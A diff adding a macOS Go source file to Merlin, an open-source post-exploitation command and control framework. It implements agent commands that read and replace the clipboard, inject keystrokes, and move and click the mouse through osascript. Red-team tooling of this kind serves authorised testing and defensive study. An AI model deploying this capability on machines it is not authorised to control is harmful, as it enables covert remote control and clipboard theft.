@@ -0,0 +1,155 @@
+//go:build darwin
+
+/*
+Merlin is a post-exploitation command and control framework.
+
+This file is part of Merlin.
+Copyright (C) 2023 Russel Van Tuyl
+
+Merlin is free software: you can redistribute it and/or modify
+it under the terms of the GNU General Public License as published by
+the Free Software Foundation, either version 3 of the License, or
+any later version.
+
+Merlin is distributed in the hope that it will be useful,
+but WITHOUT ANY WARRANTY; without even the implied warranty of
+MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+GNU General Public License for more details.
+
+You should have received a copy of the GNU General Public License
+along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+*/
+
+package commands
+
+import (
+	// Standard
+	"fmt"
+	"os/exec"
+	"strings"
+)
+
+// keyCodes maps key names that can't be sent with keystroke to macOS virtual key codes
+var keyCodes = map[string]int{
+	"enter": 36, "tab": 48, "space": 49, "backspace": 51, "esc": 53, "delete": 117, "home": 115, "end": 119,
+	"pageup": 116, "pagedown": 121, "left": 123, "right": 124, "down": 125, "up": 126,
+	"f1": 122, "f2": 120, "f3": 99, "f4": 118, "f5": 96, "f6": 97, "f7": 98, "f8": 100, "f9": 101, "f10": 109,
+	"f11": 103, "f12": 111,
+}
+
+// modifiers maps modifier key names to their AppleScript names; win and cmd are the command key
+var modifiers = map[string]string{
+	"cmd": "command down", "win": "command down", "ctrl": "control down", "alt": "option down", "option": "option down",
+	"shift": "shift down",
+}
+
+// getClipboard returns the text on the clipboard with pbpaste
+func getClipboard() (string, error) {
+	out, err := exec.Command("pbpaste").Output()
+	if err != nil {
+		return "", fmt.Errorf("there was an error running pbpaste: %s", err)
+	}
+	return string(out), nil
+}
+
+// setClipboard replaces the contents of the clipboard with the text using pbcopy
+func setClipboard(text string) error {
+	pbcopy := exec.Command("pbcopy")
+	pbcopy.Stdin = strings.NewReader(text)
+	err := pbcopy.Run()
+	if err != nil {
+		return fmt.Errorf("there was an error running pbcopy: %s", err)
+	}
+	return nil
+}
+
+// typeText types the text with System Events; new lines press the return key
+// Requires the Accessibility permission for the process running osascript
+func typeText(text string) error {
+	var script []string
+	for i, line := range strings.Split(strings.ReplaceAll(text, "\r", ""), "\n") {
+		if i > 0 {
+			script = append(script, "key code 36")
+		}
+		if line != "" {
+			script = append(script, "keystroke "+appleScriptString(line))
+		}
+	}
+	return systemEvents(script)
+}
+
+// pressKeys presses the key combination with System Events
+// Requires the Accessibility permission for the process running osascript
+func pressKeys(keys []string) error {
+	var using []string
+	var key string
+	for _, k := range keys {
+		if m, ok := modifiers[k]; ok {
+			using = append(using, m)
+			continue
+		}
+		if key != "" {
+			return fmt.Errorf("only one key that isn't a modifier can be pressed but received %s and %s", key, k)
+		}
+		key = k
+	}
+	if key == "" {
+		return fmt.Errorf("a key that isn't a modifier is required")
+	}
+
+	var command string
+	if code, ok := keyCodes[key]; ok {
+		command = fmt.Sprintf("key code %d", code)
+	} else if len([]rune(key)) == 1 {
+		command = "keystroke " + appleScriptString(key)
+	} else {
+		return fmt.Errorf("unknown key %s", key)
+	}
+	if len(using) > 0 {
+		command += " using {" + strings.Join(using, ", ") + "}"
+	}
+	return systemEvents([]string{command})
+}
+
+// click posts CGEvent mouse down and up events for the left or right button at the cursor's current position
+func click(right bool) error {
+	down, up, button := "kCGEventLeftMouseDown", "kCGEventLeftMouseUp", "kCGMouseButtonLeft"
+	if right {
+		down, up, button = "kCGEventRightMouseDown", "kCGEventRightMouseUp", "kCGMouseButtonRight"
+	}
+	return coreGraphics(fmt.Sprintf(
+		"var p = $.CGEventGetLocation($.CGEventCreate(null));\n"+
+			"[$.%s, $.%s].forEach(function (t) { $.CGEventPost($.kCGHIDEventTap, $.CGEventCreateMouseEvent(null, t, p, $.%s)); });",
+		down, up, button,
+	))
+}
+
+// moveMouse posts a CGEvent to move the cursor to the screen coordinates
+func moveMouse(x, y int) error {
+	return coreGraphics(fmt.Sprintf(
+		"$.CGEventPost($.kCGHIDEventTap, $.CGEventCreateMouseEvent(null, $.kCGEventMouseMoved, {x: %d, y: %d}, $.kCGMouseButtonLeft));",
+		x, y,
+	))
+}
+
+// coreGraphics runs the JavaScript for Automation (JXA) script with the CoreGraphics framework imported so that CGEvent
+// functions can be called without cgo
+func coreGraphics(script string) error {
+	// #nosec G204 -- the script only contains integers and constant names
+	out, err := exec.Command("osascript", "-l", "JavaScript", "-e", "ObjC.import(\"CoreGraphics\");\n"+script).CombinedOutput()
+	if err != nil {
+		return fmt.Errorf("there was an error running osascript: %s %s", err, strings.TrimSpace(string(out)))
+	}
+	return nil
+}
+
+// systemEvents runs the AppleScript commands inside a System Events tell block
+func systemEvents(commands []string) error {
+	script := "tell application \"System Events\"\n" + strings.Join(commands, "\n") + "\nend tell"
+	// #nosec G204 -- operator provided text is quoted in the script
+	out, err := exec.Command("osascript", "-e", script).CombinedOutput()
+	if err != nil {
+		return fmt.Errorf("there was an error running osascript: %s %s", err, strings.TrimSpace(string(out)))
+	}
+	return nil
+}